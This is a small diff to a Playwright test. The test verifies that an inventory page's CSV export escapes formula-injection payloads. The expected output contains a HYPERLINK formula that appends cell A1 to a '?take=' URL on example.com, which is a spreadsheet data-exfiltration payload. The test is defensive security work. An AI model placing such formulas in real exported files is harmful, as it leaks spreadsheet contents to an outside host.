@@ -156,6 +156,6 @@ test("the inventory shows hostile products as text, and its CSV contains no form
   const downloading = page.waitForEvent("download");
   await page.getByRole("button", { name: "Export CSV" }).click();
   const file = await readFile(await (await downloading).path(), "utf8");
-  expect(file).toContain(`"'=HYPERLINK(""https://example.com/?take=""&A1,""Ring"")"`);
+  expect(file).toContain(`"' =HYPERLINK(""https://example.com/?take=""&A1,""Ring"")"`);
   expect(file).not.toMatch(/(^|[,\n])"?[=+@]/);
 });
